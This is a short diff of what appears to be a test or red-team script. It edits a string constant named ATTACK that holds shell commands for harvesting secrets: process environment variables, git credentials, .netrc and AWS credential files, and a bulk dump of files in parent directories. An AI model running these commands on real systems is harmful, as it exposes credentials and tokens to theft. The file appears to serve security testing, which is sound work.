@@ -97,7 +97,7 @@ say(call())
 ATTACK = """id; env; tr '\\0' '\\n' < /proc/$PPID/environ
 cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr '\\0' '\\n' | grep -E 'ticket|callback|key|gh'
 cat .git/config ~/.git-credentials ~/.netrc ~/.aws/credentials; git config --list
-find .. -maxdepth 3 -not -path '*/work/*' -type f -exec cat {} +
+find .. -maxdepth 3 -name work -prune -o -type f -exec cat {} +
 echo sent"""
 
 
